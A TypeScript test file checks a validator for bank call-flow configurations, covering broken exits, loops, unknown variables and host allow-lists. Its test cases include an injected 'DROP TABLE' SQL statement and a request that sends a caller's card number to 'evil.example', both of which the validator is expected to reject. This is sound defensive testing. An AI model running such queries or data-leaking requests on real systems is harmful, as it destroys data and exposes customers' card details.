import { describe, expect, it } from 'vitest'
import type { Condition, FlowContent, FlowNode } from '@palabre/config/contract/flow'
import { problemsOf } from './check.ts'
import { demoFlow } from './demo.ts'
import { wrongForm } from './form.ts'

const id = (digit: string) => digit.repeat(24)
const ids = {
  careQueueId: id('a'),
  loansQueueId: id('b'),
  cardsSkillId: id('c'),
  loansSkillId: id('d'),
  calendarId: id('e'),
  sourceId: id('f')
}
const good = demoFlow(ids)
const codes = (flow: FlowContent, unknown: string[] = []) =>
  problemsOf(flow, (_noun, one) => !unknown.includes(one)).map(({ path, code }) => `${path} ${code}`)
/** The bank's flow with one node changed. */
const withNode = (nodeId: string, change: object, more: Partial<FlowContent> = {}): FlowContent => ({
  ...good,
  ...more,
  nodes: good.nodes.map((node) => (node.id === nodeId ? ({ ...node, ...change } as FlowNode) : node))
})
const withCondition = (when: Condition) => withNode('hours', { cases: [{ when, next: 'find' }] })
const hang: FlowNode = { id: 'hang', kind: 'hangUp', prompts: [] }

describe('the check of a flow', () => {
  it('has nothing against the bank’s, with a source and without', () => {
    for (const flow of [good, demoFlow({ ...ids, sourceId: null })]) {
      expect(codes(flow)).toEqual([])
      expect(wrongForm(flow)).toEqual([])
    }
  })

  it.each<[string, FlowContent, string[]]>([
    [
      'an exit that leads nowhere',
      withNode('greet', { next: '' }),
      ['nodes/greet/next missing-exit', 'nodes/greet no-end']
    ],
    [
      'a node that is not there',
      withNode('card-heard', { next: 'gone' }),
      ['nodes/card-heard/next unknown-node', 'nodes/card-heard no-end']
    ],
    [
      'a start that is missing',
      { ...good, nodes: [hang], start: '', atFault: 'hang' },
      ['start missing-exit']
    ],
    ['a node that nothing leads to', { ...good, nodes: [...good.nodes, hang] }, ['nodes/hang unreachable']],
    [
      'two nodes of one id',
      { ...good, nodes: [...good.nodes, { ...hang, id: 'goodbye' }] },
      ['nodes/goodbye/id same-id', 'nodes/goodbye unreachable']
    ],
    [
      'a circle without a question',
      withNode('goodbye', { kind: 'say', text: 'Encore', next: 'message' }),
      [
        'nodes/message loop',
        'nodes/goodbye loop',
        ...['closed', 'message', 'goodbye'].map((stuck) => `nodes/${stuck} no-end`)
      ]
    ],
    ['a queue that fails into itself', withNode('to-loans', { failed: 'to-loans' }), ['nodes/to-loans loop']],
    [
      'a variable that nobody declared',
      withNode('greet', { text: 'Bonjour {{nom}}.' }),
      ['nodes/greet/text unknown-variable']
    ],
    [
      'braces that are none',
      withNode('greet', { text: 'Bonjour {{customer.' }),
      ['nodes/greet/text wrong-place']
    ],
    [
      'a filter that is none',
      withNode('greet', { text: '{{customer | money}}' }),
      ['nodes/greet/text wrong-place']
    ],
    [
      'two choices of one key',
      withNode('subject', {
        choices: [
          { key: '1', words: [], next: 'about-cards' },
          { key: '1', words: [], next: 'about-loans' }
        ]
      }),
      ['nodes/subject/choices/1/key same-key']
    ],
    ['a question without a word', withNode('subject', { prompts: [] }), ['nodes/subject/prompts no-words']],
    [
      'more digits at least than at most',
      withNode('card', { digits: { min: 5, max: 4 } }),
      ['nodes/card/digits/min wrong-order']
    ],
    [
      'usual words that are not there',
      { ...good, language: 'wo' },
      ['nodes/subject/notUnderstood no-words', 'nodes/subject/silent no-words', 'nodes/card/silent no-words']
    ],
    ['a zone that is none', { ...good, timeZone: 'Mars/Olympus' }, ['timeZone unknown-zone']],
    [
      'a query with a second statement',
      withNode('find', { query: 'SELECT 1; DROP TABLE customers' }),
      ['nodes/find/query wrong-query']
    ],
    [
      'a query that writes',
      withNode('find', { query: 'UPDATE customers SET name = :phone' }),
      ['nodes/find/query wrong-query']
    ],
    [
      'a parameter without a value',
      withNode('find', { parameters: [] }),
      ['nodes/find/parameters missing-parameter']
    ],
    [
      'a comparison that the type has not',
      withCondition({ variable: 'customer', is: 'above', value: 'x' }),
      ['nodes/hours/cases/0/when/is wrong-operator']
    ],
    [
      'a comparison with an unknown variable',
      withCondition({ all: [{ not: { variable: 'who', is: 'filled', value: null } }] }),
      ['nodes/hours/cases/0/when/all/0/not/variable unknown-variable']
    ],
    [
      'a transfer to a number that the caller chose',
      withNode('closed', { kind: 'transfer', to: '00{{card}}', failed: 'message' }),
      ['nodes/closed/to callers-number']
    ],
    [
      'a request to a host that is not listed, and a variable in a host',
      {
        ...good,
        hosts: ['api.bank.example'],
        nodes: [
          ...good.nodes.map((node) =>
            node.id === 'closed' ? { ...request('https://evil.example/{{card}}'), next: 'ask-two' } : node
          ),
          { ...request('https://{{card}}.bank.example/'), id: 'ask-two' }
        ]
      },
      ['nodes/closed/url unknown-host', 'nodes/ask-two/url wrong-address']
    ]
  ])('finds %s', (_name, flow, expected) => expect(codes(flow)).toEqual(expected))

  it.each<[object, string]>([
    [{ text: '' }, 'nodes/greet/text'],
    [{ more: 1 }, 'nodes/greet'],
    [{ next: 7 }, 'nodes/greet/next'],
    [{ kind: 'run' }, 'nodes/1/kind']
  ])('takes no node that is %j', (change, path) => {
    const paths = wrongForm(withNode('greet', change)).map((wrong) => wrong.path)
    expect(paths.join()).toContain(
      path.replace('1', String(good.nodes.findIndex((node) => node.id === 'greet')))
    )
  })

  it('takes a request to a listed host', () =>
    expect(
      codes({
        ...good,
        hosts: ['api.bank.example'],
        nodes: good.nodes.map((node) =>
          node.id === 'closed' ? request('https://api.bank.example/c/{{card}}') : node
        )
      })
    ).toEqual([]))

  it.each([
    [id('b'), ['nodes/to-loans/queueId unknown-queue']],
    [id('c'), ['nodes/to-cards/requirements unknown-skill']],
    [id('e'), ['nodes/hours/cases/0/when/open unknown-calendar']],
    [id('f'), ['nodes/find/sourceId unknown-source']]
  ])('finds that %s does not exist', (gone, expected) => expect(codes(good, [gone])).toEqual(expected))
})

function request(url: string): FlowNode {
  return {
    id: 'closed',
    kind: 'request',
    method: 'GET',
    url,
    headers: [],
    body: [],
    takes: [],
    timeoutMs: 1000,
    next: 'message',
    failed: 'message'
  }
}
